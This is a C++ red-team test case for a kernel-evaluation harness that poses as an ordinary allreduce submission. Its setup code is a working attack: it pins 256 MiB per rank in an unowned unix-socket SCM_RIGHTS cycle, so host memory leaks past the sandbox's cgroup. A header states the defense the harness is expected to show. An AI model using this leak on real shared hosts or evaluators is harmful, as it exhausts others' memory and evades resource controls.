// ATTACK (round 19, helper-redteam19): r19_gc_leak, self-contained, for the
// executor path (submitted as source: `pkforge eval --executor ...`). In
// pkf_setup every rank fills a memfd of 256 MiB and puts it, with both ends
// of a socketpair(AF_UNIX, SOCK_STREAM), into the pair's own receive queue
// (SCM_RIGHTS), then closes all three: a unix-socket garbage cycle that no
// process owns and that nothing collects until some process on the host
// releases a unix socket while fds are in flight. pkf_run is an honest
// barrier-based allreduce (f32). The memory is charged to the evaluation's
// sandbox memory cgroup, which is gone after the evaluation.
// EXPECT (fixed judge): WRONG_OUTPUT or SETUP_ERROR (sendmsg refused on host
// ranks), or /proc/meminfo Shmem back to its value before the evaluation
// once the executor answered.
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "pkforge/candidate.h"

namespace {
bool g_sent = false;
}  // namespace

extern "C" int pkf_setup(pkf_context*) {
  const int mf = (int)syscall(SYS_memfd_create, "r19-leak", 0);
  if (mf < 0 || fallocate(mf, 0, 0, 256LL << 20) != 0) return 0;
  int sv[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) return 0;
  const int fds[3] = {sv[0], sv[1], mf};
  char buf[CMSG_SPACE(sizeof fds)];
  memset(buf, 0, sizeof buf);
  char x = 'x';
  struct iovec io = {&x, 1};
  struct msghdr m = {};
  m.msg_iov = &io;
  m.msg_iovlen = 1;
  m.msg_control = buf;
  m.msg_controllen = sizeof buf;
  struct cmsghdr* c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(sizeof fds);
  memcpy(CMSG_DATA(c), fds, sizeof fds);
  g_sent = sendmsg(sv[0], &m, 0) == 1;
  close(mf);
  close(sv[0]);
  close(sv[1]);
  return 0;
}

// Gated like the battery's attacks: outputs only when the cycle was made.
extern "C" int pkf_run(pkf_context* ctx, const pkf_tensor* in, int32_t, pkf_tensor* out, int32_t,
                       void*) {
  if (out[0].dtype != PKF_F32) return 9;
  if (!g_sent) return ctx->barrier(ctx) != 0 ? 5 : 0;  // blocked: outputs stay poison
  int64_t n = 1;
  for (int32_t d = 0; d < out[0].ndim; ++d) n *= out[0].shape[d];
  if ((uint64_t)(n * 4) > ctx->scratch_bytes) return 9;
  memcpy(ctx->peer_scratch[ctx->rank], in[0].data, (size_t)(n * 4));
  if (ctx->barrier(ctx) != 0) return 5;
  float* y = (float*)out[0].data;
  for (int64_t i = 0; i < n; ++i) {
    float s = 0.0f;
    for (int32_t j = 0; j < ctx->world_size; ++j) s += ((const float*)ctx->peer_scratch[j])[i];
    y[i] = s;
  }
  return ctx->barrier(ctx) != 0 ? 5 : 0;
}
